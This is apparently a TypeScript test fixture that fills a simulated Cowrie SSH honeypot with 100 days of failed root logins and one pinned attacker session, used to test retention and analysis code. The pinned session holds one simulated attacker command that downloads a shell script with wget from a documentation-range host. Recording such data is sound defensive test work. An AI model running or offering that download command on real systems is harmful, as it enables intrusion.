/**
 * A hundred days of one Cowrie, from its lines to incidents, on the real engine. What was written is remembered, so that
 * a test can count it without the engine.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { submodule as cowrie } from '@apiary/submodules/cowrie/index.ts';
import { submodule as host_resources } from '@apiary/submodules/host_resources/index.ts';
import { readRecordings } from '@apiary/submodules/report.ts';
import { Analysis } from '../../analysis/analysis.ts';
import { readAttackScope } from '../../analysis/attack-scope.ts';
import { ArtifactStore } from '../../artifacts/store.ts';
import { Collectors } from '../../state/collectors.ts';
import { StateDatabase } from '../../state/database.ts';
import type { RetentionLimits } from '../../state/retention.ts';
import { createLookups } from '../../store/lookups.ts';
import { migrate } from '../../store/schema.ts';
import { Store } from '../../store/store.ts';
import { type Rendering, storedName } from '../../store/template.ts';
import { Retention } from '../retention.ts';

export const day_ms = 86_400_000;
/** Noon of the last day. */
export const now_ms = Date.UTC(2026, 5, 10, 12);
export const days = 100;
const log_ins_a_day = 30;
const days_a_segment = 20;
/** The session that a person pins: on the fifth day. */
export const pinned_day = 4;
export const pinned_session = 'feed0001';
export const pinned_source = '203.0.113.77';
export const recording = Buffer.from('a terminal recording');
export const recording_sha256 = createHash('sha256').update(recording).digest('hex');

export interface Written {
  at_ms: number;
  source: string;
  session: string;
  password: string;
}

const unlimited = (): RetentionLimits[keyof RetentionLimits] => ({ days: null, bytes_max: null });
export const noLimits = (): RetentionLimits => ({
  records: unlimited(),
  events: unlimited(),
  artifacts: unlimited(),
  captures: unlimited(),
  readings: unlimited(),
});

const show = (ms: number): string => new Date(ms).toISOString().replace('T', ' ').replace('Z', '000');

export class World {
  readonly #directory = mkdtempSync(join(tmpdir(), 'apiary-retention-'));
  readonly store: Store;
  readonly state = new StateDatabase(':memory:');
  readonly artifacts: ArtifactStore;
  readonly limits = noLimits();
  readonly recordings = new Map([['cowrie', readRecordings(cowrie)!]]);
  readonly log: string[] = [];
  readonly alerts: string[] = [];
  /** Log-ins that failed: one record and one event each. */
  readonly log_ins: Written[] = [];
  #place = 0;
  #segment = 0;

  private constructor(rendering: Rendering) {
    this.store = new Store({ directory: join(this.#directory, 'engine'), rendering });
    const collectors = new Collectors(this.state);
    const collector = collectors.add('test', 'pot', 'honeypot');
    collectors.addSensor('test', 'ssh', 'cowrie', collector);
    this.artifacts = new ArtifactStore(join(this.#directory, 'artifacts'), 1e9, this.state);
  }

  static async open(rendering: Rendering = 'single'): Promise<World> {
    const world = new World(rendering);
    await world.store.whenUp();
    await createLookups(world.store);
    await migrate(world.store, [cowrie, host_resources]);
    await world.#live();
    return world;
  }

  async #live(): Promise<void> {
    let rows: object[] = [];
    for (let day = 0; day < days; day += 1) {
      const begin = now_ms - (days - day) * day_ms;
      for (let index = 0; index < log_ins_a_day; index += 1) {
        const at_ms = begin + index * 600_000;
        const written: Written = {
          at_ms,
          source: `198.51.100.${(day * 7 + index) % 40}`,
          session: `s${day}x${index}`,
          password: `pw${(day + index) % 11}`,
        };
        this.log_ins.push(written);
        rows.push(
          this.row(at_ms, {
            eventid: 'cowrie.login.failed',
            username: 'root',
            password: written.password,
            src_ip: written.source,
            session: written.session,
          }),
        );
      }
      if (day === pinned_day) rows.push(...this.#pinnedRows(begin + 30_000));
      if (day % days_a_segment !== days_a_segment - 1) continue;
      await this.land('json', rows);
      rows = [];
    }
    await this.land('ttylogs', [
      this.raw(now_ms - (days - pinned_day) * day_ms + 90_000, {
        path: `/var/lib/cowrie/tty/${recording_sha256}`,
        kind: 'terminal_recording',
        sha256: recording_sha256,
        size: recording.length,
        size_taken: recording.length,
        mtime: new Date(now_ms - (days - pinned_day) * day_ms).toISOString(),
        cut: false,
      }),
    ]);
    await this.storeFile(recording, now_ms - (days - pinned_day) * day_ms);
  }

  #pinnedRows(at_ms: number): object[] {
    const line = (after: number, fields: object): object =>
      this.row(at_ms + after * 1000, { src_ip: pinned_source, session: pinned_session, ...fields });
    return [
      line(0, { eventid: 'cowrie.session.connect', src_port: 4711, dst_ip: '192.0.2.1', dst_port: 22 }),
      line(1, { eventid: 'cowrie.login.success', username: 'root', password: 'pw3' }),
      line(2, { eventid: 'cowrie.command.input', input: 'wget http://203.0.113.9/x.sh' }),
      line(3, { eventid: 'cowrie.log.closed', ttylog: `tty/${recording_sha256}` }),
      line(4, { eventid: 'cowrie.session.closed', duration: 4 }),
    ];
  }

  raw(at_ms: number, value: object): object {
    this.#place += 1;
    const raw = JSON.stringify(value);
    const known = { sensor_id: 1, source: 'f', generation: 1, place: this.#place, version: 0, flags: 0 };
    return { ...known, original_size: raw.length, collect_ts: show(at_ms), raw };
  }

  row(at_ms: number, fields: object): object {
    return this.raw(at_ms, { timestamp: new Date(at_ms).toISOString(), sensor: 'pot', ...fields });
  }

  /** Lands rows as one segment. */
  async land(stream: string, rows: object[]): Promise<bigint> {
    this.#segment += 1;
    const segment_id = this.#segment;
    await this.store.insertRows(
      storedName(`landing_cowrie_${stream}`, this.store.rendering),
      rows.map((row) => ({ ...row, stream, segment_id })),
    );
    return BigInt(segment_id);
  }

  async storeFile(bytes: Buffer, stored_ms: number): Promise<string> {
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const offer = { sha256, size: bytes.length, collector_id: 1, sensor_id: 1 };
    await this.artifacts.receive(
      offer,
      (async function* () {
        yield bytes;
      })(),
    );
    this.state.run('UPDATE artifact SET stored_ms = ? WHERE sha256 = ?', stored_ms, sha256);
    return sha256;
  }

  /** A new analysis, which has read what earlier ones wrote. */
  async analyse(): Promise<Analysis> {
    const analysis = new Analysis({
      store: this.store,
      state: this.state,
      scope: () => readAttackScope(this.state, 3600, now_ms),
      log: () => undefined,
    });
    await analysis.load();
    return analysis;
  }

  retention(store = this.store): Retention {
    return new Retention({
      store,
      state: this.state,
      artifacts: this.artifacts,
      limits: this.limits,
      recordings: this.recordings,
      holdLoader: (work) => work(),
      holdAnalysis: (work) => work(),
      alert: (_kind, message) => this.alerts.push(message),
      log: (message) => this.log.push(message),
    });
  }

  async count(table: string, where = 'true'): Promise<number> {
    const [row] = await this.store.query<{ n: string }>(`SELECT count() AS n FROM ${table} WHERE ${where}`);
    return Number(row!.n);
  }

  async close(): Promise<void> {
    await this.store.close();
    this.state.close();
    rmSync(this.#directory, { recursive: true });
  }
}
